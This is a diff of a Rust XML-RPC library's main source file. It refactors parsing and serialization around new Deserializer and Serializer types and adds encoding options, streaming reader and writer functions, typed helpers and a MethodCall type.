@@ -1,24 +1,37 @@
 //! This library provides a basic API for serializing / deserializng xmlrpc.
 //! Combine with your transport or server of choice for an easy and quick xmlrpc experience.
 
-use quick_xml::{events::Event, name::QName, Reader, Writer};
-use serde::Deserialize;
-use serde_transcode::transcode;
+use std::borrow::Cow;
+use std::io::{BufReader, Read, Write};
 
-mod de;
+use quick_xml::{events::Event, name::QName, Writer};
+use serde::{Deserialize, Serialize};
+
+pub mod datetime;
+pub mod de;
+mod encoding;
 mod error;
-mod ser;
-mod value;
+mod read;
+pub mod ser;
+pub mod value;
+mod with;
 mod xml_ext;
 
-use de::Deserializer as ValueDeserializer;
+use de::{IoReader, ParamsDeserializer, SliceReader, XmlRead};
+use encoding::{EncodingWriter, OutputEncoding};
 use ser::Serializer as ValueSerializer;
-use xml_ext::{ReaderExt, WriterExt};
+use xml_ext::{unexpected, ReaderExt, WriterExt};
 
-pub use error::{Error, Fault, Result};
+pub use de::{DecoderOptions, Deserializer, Limits};
+pub use error::{DecodingError, EncodingError, Error, Fault, Result};
+pub use ser::{EncoderOptions, IntTag, Serializer};
 pub use value::{from_value, to_value, Value};
+pub use with::{as_base64, as_datetime, as_i8, as_nil_if_none, Base64, DateTime, Nil};
 
 /// Parses the body of an xmlrpc http request and attempts to convert it to the desired type.
+///
+/// Only the first param of the response is read. Use [response_params_from_str] for responses
+/// which contain more than one.
 /// ```
 /// let val: String = serde_xmlrpc::response_from_str(
 /// r#"<?xml version="1.0" encoding="utf-8"?>
@@ -34,49 +47,279 @@ pub fn response_from_str<'a, T>(input: &'a str) -> Result<T>
 where
     T: serde::de::Deserialize<'a>,
 {
-    let mut reader = Reader::from_str(input);
-    reader.expand_empty_elements(true);
-    reader.trim_text(true);
+    response_from_read(&mut Deserializer::from_str(input))
+}
+
+/// Parses the body of an xmlrpc response with the given options. This
+/// behaves the same as [response_from_str] otherwise.
+pub fn response_from_str_with<'a, T>(input: &'a str, options: &DecoderOptions) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_from_read(&mut str_deserializer(input, options))
+}
+
+/// Parses the raw bytes of an xmlrpc response and attempts to convert it to
+/// the desired type.
+///
+/// Unlike [response_from_str], this honors the encoding of the body: a byte
+/// order mark or the `encoding` of the XML declaration, such as ISO-8859-1 or
+/// Windows-1252, is used to decode it. Bodies without either are read as
+/// UTF-8. Only encodings which are a superset of ASCII are supported, so
+/// UTF-16 is rejected.
+/// ```
+/// let body = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>
+/// <methodResponse>
+///   <params>
+///     <param><value><string>caf\xe9</string></value></param>
+///   </params>
+/// </methodResponse>";
+///
+/// let val: String = serde_xmlrpc::response_from_slice(body).unwrap();
+/// assert_eq!(val, "caf\u{e9}");
+/// ```
+pub fn response_from_slice<'a, T>(input: &'a [u8]) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_from_read(&mut Deserializer::from_slice(input))
+}
+
+/// Parses the raw bytes of an xmlrpc response with the given options. This
+/// behaves the same as [response_from_slice] otherwise.
+pub fn response_from_slice_with<'a, T>(input: &'a [u8], options: &DecoderOptions) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_from_read(&mut slice_deserializer(input, options))
+}
+
+/// Parses an xmlrpc response from an `io::Read` source and attempts to convert
+/// it to the desired type.
+///
+/// The input is decoded as it is read, so the body never has to be buffered
+/// into a single `String` first.
+/// ```
+/// let body = r#"<?xml version="1.0" encoding="utf-8"?>
+/// <methodResponse>
+///   <params>
+///     <param><value><string>hello world</string></value></param>
+///   </params>
+/// </methodResponse>"#;
+///
+/// let val: String = serde_xmlrpc::response_from_reader(body.as_bytes()).unwrap();
+/// assert_eq!(val, "hello world".to_string());
+/// ```
+pub fn response_from_reader<R, T>(reader: R) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    response_from_read(&mut Deserializer::from_reader(reader))
+}
+
+/// Parses an xmlrpc response from an `io::Read` source with the given options.
+/// This behaves the same as [response_from_reader] otherwise.
+pub fn response_from_reader_with<R, T>(reader: R, options: &DecoderOptions) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    response_from_read(&mut reader_deserializer(reader, options))
+}
+
+fn response_from_read<'de, R, T>(de: &mut Deserializer<R>) -> Result<T>
+where
+    R: XmlRead<'de>,
+    T: serde::de::Deserialize<'de>,
+{
+    read_response(de, |de| {
+        de.read.expect_tag(QName(b"param"))?;
+        let ret = T::deserialize(&mut *de)?;
+        de.read.read_to_end(QName(b"param"))?;
+        de.read.read_to_end(QName(b"params"))?;
+        finish_document(de, Some(QName(b"methodResponse")))?;
+        Ok(ret)
+    })
+}
+
+/// Parses the body of an xmlrpc response which may contain any number of
+/// params, and attempts to convert all of them to the desired type.
+///
+/// Each "param" is treated as an element of a sequence, so this would
+/// typically be a tuple or a `Vec<Value>`. This is useful for legacy servers
+/// which return more than one param, which [response_from_str] would only
+/// read the first of.
+/// ```
+/// use serde_xmlrpc::Value;
+///
+/// let body = r#"<?xml version="1.0" encoding="utf-8"?>
+/// <methodResponse>
+///   <params>
+///     <param><value><int>42</int></value></param>
+///     <param><value><string>data</string></value></param>
+///   </params>
+/// </methodResponse>"#;
+///
+/// let (a, b): (i32, String) = serde_xmlrpc::response_params_from_str(body).unwrap();
+/// assert_eq!(a, 42);
+/// assert_eq!(b, "data");
+///
+/// let vals: Vec<Value> = serde_xmlrpc::response_params_from_str(body).unwrap();
+/// assert_eq!(vals, vec![Value::Int(42), Value::String("data".to_string())]);
+/// ```
+pub fn response_params_from_str<'a, T>(input: &'a str) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_params_from_read(&mut Deserializer::from_str(input))
+}
+
+/// Parses the body of an xmlrpc response which may contain any number of
+/// params with the given options. This behaves the same as
+/// [response_params_from_str] otherwise.
+pub fn response_params_from_str_with<'a, T>(input: &'a str, options: &DecoderOptions) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_params_from_read(&mut str_deserializer(input, options))
+}
+
+/// Parses the raw bytes of an xmlrpc response which may contain any number of
+/// params. This behaves the same as [response_params_from_str], but decodes
+/// the body the same way as [response_from_slice].
+pub fn response_params_from_slice<'a, T>(input: &'a [u8]) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_params_from_read(&mut Deserializer::from_slice(input))
+}
+
+/// Parses the raw bytes of an xmlrpc response which may contain any number of
+/// params with the given options. This behaves the same as
+/// [response_params_from_slice] otherwise.
+pub fn response_params_from_slice_with<'a, T>(
+    input: &'a [u8],
+    options: &DecoderOptions,
+) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    response_params_from_read(&mut slice_deserializer(input, options))
+}
+
+/// Parses an xmlrpc response which may contain any number of params from an
+/// `io::Read` source. This behaves the same as [response_params_from_str].
+pub fn response_params_from_reader<R, T>(reader: R) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    response_params_from_read(&mut Deserializer::from_reader(reader))
+}
+
+/// Parses an xmlrpc response which may contain any number of params from an
+/// `io::Read` source with the given options. This behaves the same as
+/// [response_params_from_reader] otherwise.
+pub fn response_params_from_reader_with<R, T>(reader: R, options: &DecoderOptions) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    response_params_from_read(&mut reader_deserializer(reader, options))
+}
+
+fn response_params_from_read<'de, R, T>(de: &mut Deserializer<R>) -> Result<T>
+where
+    R: XmlRead<'de>,
+    T: serde::de::Deserialize<'de>,
+{
+    read_response(de, |de| {
+        let ret = T::deserialize(ParamsDeserializer::new(&mut de.read))?;
+        finish_document(de, Some(QName(b"methodResponse")))?;
+        Ok(ret)
+    })
+}
 
+fn read_response<'de, R, T, F>(de: &mut Deserializer<R>, read_params: F) -> Result<T>
+where
+    R: XmlRead<'de>,
+    F: FnOnce(&mut Deserializer<R>) -> Result<T>,
+{
     // Check the first event. This will determine if we're loading a Fault or a
     // Value.
     loop {
-        match reader.read_event().map_err(error::DecodingError::from)? {
+        match de.read.read_tag_event()? {
             Event::Decl(_) => continue,
             Event::Start(e) if e.name() == QName(b"methodResponse") => {
                 break;
             }
-            e => return Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into()),
+            e => return Err(unexpected_root(&e, "methodResponse")),
         };
     }
 
-    match reader.read_event().map_err(error::DecodingError::from)? {
-        Event::Start(e) if e.name() == QName(b"params") => {
-            reader.expect_tag(QName(b"param"))?;
-            reader.expect_tag(QName(b"value"))?;
-            let deserializer = ValueDeserializer::new(&mut reader)?;
-            let ret = T::deserialize(deserializer)?;
-            reader
-                .read_to_end(QName(b"param"))
-                .map_err(error::DecodingError::from)?;
-            reader
-                .read_to_end(e.name())
-                .map_err(error::DecodingError::from)?;
-            Ok(ret)
-        }
+    match de.read.read_tag_event()? {
+        Event::Start(e) if e.name() == QName(b"params") => read_params(de),
         Event::Start(e) if e.name() == QName(b"fault") => {
             // The inner portion of a fault is just a Value tag, so we
             // deserialize it from a value.
-            reader.expect_tag(QName(b"value"))?;
-            let deserializer = ValueDeserializer::new(&mut reader)?;
-            let fault: Fault = Fault::deserialize(deserializer)?;
-            reader
-                .read_to_end(e.name())
-                .map_err(error::DecodingError::from)?;
+            let fault: Fault = if de.read.options().validate {
+                validate_fault(Value::deserialize(&mut *de)?)?
+            } else {
+                Fault::deserialize(&mut *de)?
+            };
+            de.read.read_to_end(e.name())?;
+            finish_document(de, Some(QName(b"methodResponse")))?;
             Err(fault.into())
         }
-        e => Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into()),
+        e => Err(unexpected(&e, QName(b"methodResponse"))),
+    }
+}
+
+/// Checks that a fault is a struct of exactly an int faultCode and a string
+/// faultString.
+fn validate_fault(value: Value) -> Result<Fault> {
+    let valid = match &value {
+        Value::Struct(members) => {
+            members.len() == 2
+                && matches!(members.get("faultCode"), Some(Value::Int(_)))
+                && matches!(members.get("faultString"), Some(Value::String(_)))
+        }
+        _ => false,
+    };
+    if !valid {
+        return Err(error::DecodingError::InvalidDocument(
+            "a <fault> must be a struct of an <int> faultCode and a string faultString".into(),
+        )
+        .into());
+    }
+    Fault::deserialize(value)
+}
+
+/// Makes sure the closing `end` tag of the document element, if it wasn't
+/// read yet, is all that is left when validating.
+fn finish_document<'de, R>(de: &mut Deserializer<R>, end: Option<QName>) -> Result<()>
+where
+    R: XmlRead<'de>,
+{
+    if !de.read.options().validate {
+        return Ok(());
+    }
+    if let Some(end) = end {
+        de.read.expect_end(end)?;
     }
+    de.read.expect_eof()
+}
+
+/// The error for anything other than the `root` start tag at the beginning of
+/// a document.
+fn unexpected_root(event: &Event, root: &str) -> Error {
+    error::DecodingError::InvalidDocument(format!(
+        "unexpected {} instead of <{}>",
+        xml_ext::describe(event),
+        root
+    ))
+    .into()
 }
 
 /// Attempt to serialize a xmlrpc response from a list of values.
@@ -89,42 +332,318 @@ where
 /// );
 /// ```
 pub fn response_to_string(params: impl Iterator<Item = Value>) -> Result<String> {
-    let mut writer = Writer::new(Vec::new());
-    writer.write_decl()?;
+    response_to_string_with(params, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a xmlrpc response from a list of values with the
+/// given options. This behaves the same as [response_to_string] otherwise.
+/// ```
+/// use serde_xmlrpc::{response_to_string_with, EncoderOptions, Value};
+///
+/// let options = EncoderOptions::new().extensions(true);
+/// let body = response_to_string_with(vec![Value::Nil].into_iter(), &options).unwrap();
+/// assert_eq!(body,
+/// r#"<?xml version="1.0" encoding="utf-8"?><methodResponse xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><params><param><value><ex:nil/></value></param></params></methodResponse>"#
+/// );
+/// ```
+pub fn response_to_string_with(
+    params: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<String> {
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    response_to_writer_with(&mut buf, params, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
+
+/// Makes sure the options don't ask for output which isn't UTF-8, as that
+/// can't be returned as a `String`.
+fn expect_utf8(options: &EncoderOptions) -> Result<()> {
+    match options.output_encoding()? {
+        OutputEncoding::Utf8 => Ok(()),
+        _ => Err(error::EncodingError::NotUtf8(
+            options.encoding.as_deref().unwrap_or_default().into(),
+        )
+        .into()),
+    }
+}
+
+/// Attempt to serialize a xmlrpc response from a list of values directly into
+/// an `io::Write` sink. This behaves the same as [response_to_string].
+/// ```
+/// use serde_xmlrpc::{response_to_writer, Value};
+/// let mut body = Vec::new();
+/// response_to_writer(&mut body, vec![Value::Int(42)].into_iter()).unwrap();
+/// assert_eq!(body,
+/// br#"<?xml version="1.0" encoding="utf-8"?><methodResponse><params><param><value><int>42</int></value></param></params></methodResponse>"#
+/// );
+/// ```
+pub fn response_to_writer<W>(writer: W, params: impl Iterator<Item = Value>) -> Result<()>
+where
+    W: Write,
+{
+    response_to_writer_with(writer, params, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a xmlrpc response from a list of values directly into
+/// an `io::Write` sink with the given options. Unlike the `_string`
+/// functions, the `_writer` ones can write a response in an
+/// [encoding](EncoderOptions::encoding) other than UTF-8.
+pub fn response_to_writer_with<W>(
+    writer: W,
+    params: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+{
+    write_response(writer, options, |writer| {
+        write_value_params(writer, params, options)
+    })
+}
 
-    writer.write_start_tag("methodResponse")?;
+fn write_value_params<W>(
+    writer: &mut Writer<W>,
+    params: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+{
     writer.write_start_tag("params")?;
     for value in params {
         writer.write_start_tag("param")?;
 
-        let serializer = ValueSerializer::new(&mut writer);
-        transcode(value, serializer)?;
+        let serializer = ValueSerializer::nested(writer, options);
+        value.serialize(serializer)?;
 
         writer.write_end_tag("param")?;
     }
     writer.write_end_tag("params")?;
+    Ok(())
+}
+
+/// Attempt to serialize a successful xmlrpc response from any serializable
+/// value. The value will be represented as the single "param" of the response.
+/// ```
+/// #[derive(serde::Serialize)]
+/// struct Status {
+///     code: i32,
+/// }
+///
+/// let body = serde_xmlrpc::response_to_string_typed(&Status { code: 1 }).unwrap();
+/// assert_eq!(body,
+/// r#"<?xml version="1.0" encoding="utf-8"?><methodResponse><params><param><value><struct><member><name>code</name><value><int>1</int></value></member></struct></value></param></params></methodResponse>"#
+/// );
+/// ```
+pub fn response_to_string_typed<T>(value: &T) -> Result<String>
+where
+    T: ?Sized + serde::ser::Serialize,
+{
+    response_to_string_typed_with(value, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a successful xmlrpc response from any serializable
+/// value with the given options. This behaves the same as
+/// [response_to_string_typed] otherwise.
+pub fn response_to_string_typed_with<T>(value: &T, options: &EncoderOptions) -> Result<String>
+where
+    T: ?Sized + serde::ser::Serialize,
+{
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    response_to_writer_typed_with(&mut buf, value, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
+
+/// Attempt to serialize a successful xmlrpc response from any serializable
+/// value directly into an `io::Write` sink. This behaves the same as
+/// [response_to_string_typed].
+pub fn response_to_writer_typed<W, T>(writer: W, value: &T) -> Result<()>
+where
+    W: Write,
+    T: ?Sized + serde::ser::Serialize,
+{
+    response_to_writer_typed_with(writer, value, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a successful xmlrpc response from any serializable
+/// value directly into an `io::Write` sink with the given options. This
+/// behaves the same as [response_to_writer_with] otherwise.
+pub fn response_to_writer_typed_with<W, T>(
+    writer: W,
+    value: &T,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+    T: ?Sized + serde::ser::Serialize,
+{
+    write_response(writer, options, |writer| {
+        writer.write_start_tag("params")?;
+        writer.write_start_tag("param")?;
+        value.serialize(ValueSerializer::nested(writer, options))?;
+        writer.write_end_tag("param")?;
+        writer.write_end_tag("params")?;
+        Ok(())
+    })
+}
+
+/// Attempt to serialize a `<fault>` xmlrpc response, indicating that a
+/// request failed.
+/// ```
+/// use serde_xmlrpc::Fault;
+///
+/// let body = serde_xmlrpc::fault_to_string(&Fault {
+///     fault_code: 4,
+///     fault_string: "Too many parameters.".to_string(),
+/// })
+/// .unwrap();
+///
+/// let err = serde_xmlrpc::response_from_str::<String>(&body).unwrap_err();
+/// assert!(matches!(err, serde_xmlrpc::Error::Fault(Fault { fault_code: 4, .. })));
+/// ```
+pub fn fault_to_string(fault: &Fault) -> Result<String> {
+    fault_to_string_with(fault, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a `<fault>` xmlrpc response with the given options.
+/// This behaves the same as [fault_to_string] otherwise.
+pub fn fault_to_string_with(fault: &Fault, options: &EncoderOptions) -> Result<String> {
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    fault_to_writer_with(&mut buf, fault, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
+
+/// Attempt to serialize a `<fault>` xmlrpc response directly into an
+/// `io::Write` sink. This behaves the same as [fault_to_string].
+pub fn fault_to_writer<W>(writer: W, fault: &Fault) -> Result<()>
+where
+    W: Write,
+{
+    fault_to_writer_with(writer, fault, &EncoderOptions::new())
+}
+
+/// Attempt to serialize a `<fault>` xmlrpc response directly into an
+/// `io::Write` sink with the given options. This behaves the same as
+/// [response_to_writer_with] otherwise.
+pub fn fault_to_writer_with<W>(writer: W, fault: &Fault, options: &EncoderOptions) -> Result<()>
+where
+    W: Write,
+{
+    write_response(writer, options, |writer| {
+        writer.write_start_tag("fault")?;
+        fault.serialize(ValueSerializer::nested(writer, options))?;
+        writer.write_end_tag("fault")?;
+        Ok(())
+    })
+}
+
+fn write_response<W, F>(writer: W, options: &EncoderOptions, write_body: F) -> Result<()>
+where
+    W: Write,
+    F: FnOnce(&mut Writer<EncodingWriter<W>>) -> Result<()>,
+{
+    let mut writer = options.writer(EncodingWriter::new(writer, options.output_encoding()?));
+    ser::write_document_start(&mut writer, "methodResponse", options)?;
+    write_body(&mut writer)?;
     writer.write_end_tag("methodResponse")?;
-    Ok(String::from_utf8(writer.into_inner()).map_err(error::EncodingError::from)?)
+    Ok(())
 }
 
 /// Expects an input string which is a valid xmlrpc request body, and parses out the method name and parameters from it.
 /// This function would typically be used by a server to parse incoming requests.
 ///   * Returns a tuple of (method name, Arguments) if successful
 /// This does not parse the types of the arguments, as typically the server needs to resolve
-/// the method name before it can know the expected types.
+/// the method name before it can know the expected types. See [MethodCall] for a way to
+/// deserialize the arguments directly once the method is known.
 pub fn request_from_str(request: &str) -> Result<(String, Vec<Value>)> {
-    let mut reader = Reader::from_str(request);
-    reader.expand_empty_elements(true);
-    reader.trim_text(true);
+    request_from_read(&mut Deserializer::from_str(request))
+}
+
+/// Parses an xmlrpc request body with the given options. This behaves the
+/// same as [request_from_str] otherwise.
+pub fn request_from_str_with(
+    request: &str,
+    options: &DecoderOptions,
+) -> Result<(String, Vec<Value>)> {
+    request_from_read(&mut str_deserializer(request, options))
+}
+
+/// Parses the raw bytes of an xmlrpc request. This behaves the same as
+/// [request_from_str], but decodes the body the same way as
+/// [response_from_slice].
+pub fn request_from_slice(request: &[u8]) -> Result<(String, Vec<Value>)> {
+    request_from_read(&mut Deserializer::from_slice(request))
+}
+
+/// Parses the raw bytes of an xmlrpc request with the given options. This
+/// behaves the same as [request_from_slice] otherwise.
+pub fn request_from_slice_with(
+    request: &[u8],
+    options: &DecoderOptions,
+) -> Result<(String, Vec<Value>)> {
+    request_from_read(&mut slice_deserializer(request, options))
+}
+
+/// Parses an xmlrpc request body from an `io::Read` source. This behaves the
+/// same as [request_from_str], but decodes the body as it is read.
+/// ```
+/// let body = r#"<?xml version="1.0"?>
+/// <methodCall>
+///   <methodName>requestTopic</methodName>
+///   <params>
+///     <param><value>/rosout</value></param>
+///   </params>
+/// </methodCall>"#;
+///
+/// let (method, vals) = serde_xmlrpc::request_from_reader(body.as_bytes()).unwrap();
+/// assert_eq!(method, "requestTopic");
+/// assert_eq!(vals, vec!["/rosout".into()]);
+/// ```
+pub fn request_from_reader<R>(reader: R) -> Result<(String, Vec<Value>)>
+where
+    R: Read,
+{
+    request_from_read(&mut Deserializer::from_reader(reader))
+}
+
+/// Parses an xmlrpc request body from an `io::Read` source with the given
+/// options. This behaves the same as [request_from_reader] otherwise.
+pub fn request_from_reader_with<R>(
+    reader: R,
+    options: &DecoderOptions,
+) -> Result<(String, Vec<Value>)>
+where
+    R: Read,
+{
+    request_from_read(&mut reader_deserializer(reader, options))
+}
+
+fn request_from_read<'de, R>(de: &mut Deserializer<R>) -> Result<(String, Vec<Value>)>
+where
+    R: XmlRead<'de>,
+{
+    let method_name = read_method_name(de)?;
+    let params = read_params(de)?;
+    Ok((method_name.into_owned(), params))
+}
+
+fn read_method_name<'de, R>(de: &mut Deserializer<R>) -> Result<Cow<'de, str>>
+where
+    R: XmlRead<'de>,
+{
+    let reader = &mut de.read;
 
     // Search for methodCall start
     loop {
-        match reader.read_event().map_err(error::DecodingError::from)? {
+        match reader.read_tag_event()? {
             Event::Decl(_) => continue,
             Event::Start(e) if e.name() == QName(b"methodCall") => {
                 break;
             }
-            e => return Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into()),
+            e => return Err(unexpected_root(&e, "methodCall")),
         };
     }
 
@@ -132,48 +651,116 @@ pub fn request_from_str(request: &str) -> Result<(String, Vec<Value>)> {
     // in the xmlrpc request, I'm not certain that this is actually enforced by the
     // specification, but could find not counter example where it wasn't true... -Carter
 
-    let method_name = match reader.read_event().map_err(error::DecodingError::from)? {
-        Event::Start(e) if e.name() == QName(b"methodName") => reader
-            .read_text(e.name())
-            .map_err(error::DecodingError::from)?,
-        e => return Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into()),
+    let name = match reader.read_tag_event()? {
+        Event::Start(e) if e.name() == QName(b"methodName") => {
+            let name = reader.read_trimmed_text(e.name())?;
+            de::check_string(reader, &name)?;
+            name
+        }
+        e => return Err(unexpected(&e, QName(b"methodCall"))),
     };
 
-    match reader.read_event().map_err(error::DecodingError::from)? {
+    let valid_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ':' | '/');
+    if reader.options().validate && (name.is_empty() || !name.chars().all(valid_char)) {
+        return Err(error::DecodingError::InvalidDocument(format!(
+            "invalid method name {:?}",
+            name
+        ))
+        .into());
+    }
+
+    Ok(name)
+}
+
+/// Reads the params of a request, up to the end of the document.
+fn read_params<'de, R, T>(de: &mut Deserializer<R>) -> Result<T>
+where
+    R: XmlRead<'de>,
+    T: serde::de::Deserialize<'de>,
+{
+    let reader = &mut de.read;
+    match reader.read_tag_event()? {
+        // We can skip reading to the end of the params tag because the
+        // deserializer stops once it has hit the end tag.
         Event::Start(e) if e.name() == QName(b"params") => {
-            let mut params = Vec::new();
-
-            let params = loop {
-                break match reader.read_event().map_err(error::DecodingError::from)? {
-                    // Read each parameter into a Value
-                    Event::Start(e) if e.name() == QName(b"param") => {
-                        reader.expect_tag(QName(b"value"))?;
-                        let deserializer = ValueDeserializer::new(&mut reader)?;
-                        let serializer = value::Serializer::new();
-                        let x = transcode(deserializer, serializer)?;
-                        params.push(x);
-
-                        reader
-                            .read_to_end(e.name())
-                            .map_err(error::DecodingError::from)?;
-
-                        continue;
-                    }
+            let params = T::deserialize(ParamsDeserializer::new(reader))?;
+            finish_document(de, Some(QName(b"methodCall")))?;
+            Ok(params)
+        }
+        // The <params> element is optional, and a request without it has no
+        // params at all.
+        Event::End(e) if e.name() == QName(b"methodCall") => {
+            let params = T::deserialize(ParamsDeserializer::empty(reader))?;
+            finish_document(de, None)?;
+            Ok(params)
+        }
+        e => Err(unexpected(&e, QName(b"methodCall"))),
+    }
+}
 
-                    // Once we see the relevant params end tag, we know we have all the params.
-                    Event::End(e) if e.name() == QName(b"params") => params,
-                    e => {
-                        return Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into())
-                    }
-                };
-            };
+/// A parsed xmlrpc request where only the method name has been read so far.
+///
+/// This would typically be used by a server: the method name is available
+/// right away so the call can be dispatched, and the handler can then
+/// deserialize the parameters straight into its own argument types without
+/// going through [Value] first.
+/// ```
+/// use serde_xmlrpc::MethodCall;
+///
+/// let call = MethodCall::parse(r#"<?xml version="1.0"?>
+///   <methodCall>
+///     <methodName>requestTopic</methodName>
+///     <params>
+///       <param><value>/rosout</value></param>
+///       <param><value><int>42</int></value></param>
+///     </params>
+///   </methodCall>"#).unwrap();
+///
+/// assert_eq!(call.method_name(), "requestTopic");
+///
+/// // Now that we know what method is being called we can pick our arg types
+/// let (a, b): (String, i32) = call.params().unwrap();
+/// assert_eq!(a, "/rosout");
+/// assert_eq!(b, 42);
+/// ```
+#[derive(Clone)]
+pub struct MethodCall<'a> {
+    method_name: Cow<'a, str>,
+    de: Deserializer<de::SliceReader<'a>>,
+}
 
-            // We can skip reading to the end of the params tag because if we're
-            // here, we've already hit the end tag.
+impl<'a> MethodCall<'a> {
+    /// Parses the method name out of an xmlrpc request body. The parameters
+    /// are not parsed until [MethodCall::params] is called.
+    pub fn parse(request: &'a str) -> Result<Self> {
+        MethodCall::parse_with(request, &DecoderOptions::new())
+    }
 
-            Ok((method_name.into_owned(), params))
-        }
-        e => Err(error::DecodingError::UnexpectedEvent(format!("{:?}", e)).into()),
+    /// Parses the method name out of an xmlrpc request body, decoding it and
+    /// the parameters with the given options.
+    pub fn parse_with(request: &'a str, options: &DecoderOptions) -> Result<Self> {
+        let mut de = str_deserializer(request, options);
+        let method_name = read_method_name(&mut de)?;
+        Ok(MethodCall { method_name, de })
+    }
+
+    /// Returns the name of the method being called.
+    pub fn method_name(&self) -> &str {
+        &self.method_name
+    }
+
+    /// Attempts to deserialize the parameters as the desired type. Each
+    /// `<param>` is treated as an element of a sequence, so this would
+    /// typically be a tuple, a `Vec<Value>` or `()` for methods without any
+    /// parameters.
+    ///
+    /// This can be called more than once, for example to try a different set
+    /// of argument types.
+    pub fn params<T>(&self) -> Result<T>
+    where
+        T: serde::de::Deserialize<'a>,
+    {
+        read_params(&mut self.de.clone())
     }
 }
 
@@ -184,30 +771,178 @@ pub fn request_from_str(request: &str) -> Result<(String, Vec<Value>)> {
 /// let body = serde_xmlrpc::request_to_string("myMethod", vec![1.into(), "param2".into()].into_iter());
 /// ```
 pub fn request_to_string(name: &str, args: impl Iterator<Item = Value>) -> Result<String> {
-    let mut writer = Writer::new(Vec::new());
+    request_to_string_with(name, args, &EncoderOptions::new())
+}
 
-    writer.write_decl()?;
+/// Takes in the name of a method call and a list of parameters and converts
+/// them to a request body with the given options. This behaves the same as
+/// [request_to_string] otherwise.
+pub fn request_to_string_with(
+    name: &str,
+    args: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<String> {
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    request_to_writer_with(&mut buf, name, args, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
 
-    writer.write_start_tag("methodCall")?;
-    writer.write_tag("methodName", name)?;
+/// Takes in the name of a method call and a list of parameters and writes a
+/// valid xmlrpc request body directly into an `io::Write` sink.
+///
+/// ```
+/// let mut body = Vec::new();
+/// serde_xmlrpc::request_to_writer(&mut body, "myMethod", vec![1.into(), "param2".into()].into_iter()).unwrap();
+/// ```
+pub fn request_to_writer<W>(writer: W, name: &str, args: impl Iterator<Item = Value>) -> Result<()>
+where
+    W: Write,
+{
+    request_to_writer_with(writer, name, args, &EncoderOptions::new())
+}
 
-    writer.write_start_tag("params")?;
+/// Takes in the name of a method call and a list of parameters and writes the
+/// request body directly into an `io::Write` sink with the given options.
+/// Unlike the `_string` functions, the `_writer` ones can write a request in
+/// an [encoding](EncoderOptions::encoding) other than UTF-8.
+pub fn request_to_writer_with<W>(
+    writer: W,
+    name: &str,
+    args: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+{
+    write_request(writer, name, options, |writer| {
+        write_value_args(writer, args, options)
+    })
+}
+
+fn write_value_args<W>(
+    writer: &mut Writer<W>,
+    args: impl Iterator<Item = Value>,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+{
     for value in args {
         writer.write_start_tag("param")?;
 
-        let serializer = ValueSerializer::new(&mut writer);
-        transcode(value, serializer)?;
+        let serializer = ValueSerializer::nested(writer, options);
+        value.serialize(serializer)?;
 
         writer.write_end_tag("param")?;
     }
-    writer.write_end_tag("params")?;
-    writer.write_end_tag("methodCall")?;
-
-    Ok(String::from_utf8(writer.into_inner()).map_err(error::EncodingError::from)?)
+    Ok(())
 }
 
-/// Attempts to parse an individual value out of a str.
-/// ```
+/// Takes in the name of a method call and any serializable sequence or tuple of
+/// parameters and attempts to convert them to a String which would be a valid
+/// body for an xmlrpc request.
+///
+/// Each element of the sequence is written as a separate "param", without
+/// building an intermediate [Value] for any of them. A unit value `()` can be
+/// used to call a method without any parameters.
+///
+/// ```
+/// #[derive(serde::Serialize)]
+/// struct Point {
+///     x: i32,
+///     y: i32,
+/// }
+///
+/// let body = serde_xmlrpc::request_to_string_typed(
+///     "myMethod",
+///     &("caller", 42, Point { x: 1, y: 2 }),
+/// )
+/// .unwrap();
+///
+/// let (method, params) = serde_xmlrpc::request_from_str(&body).unwrap();
+/// assert_eq!(method, "myMethod");
+/// assert_eq!(params.len(), 3);
+/// ```
+pub fn request_to_string_typed<T>(name: &str, params: &T) -> Result<String>
+where
+    T: ?Sized + serde::ser::Serialize,
+{
+    request_to_string_typed_with(name, params, &EncoderOptions::new())
+}
+
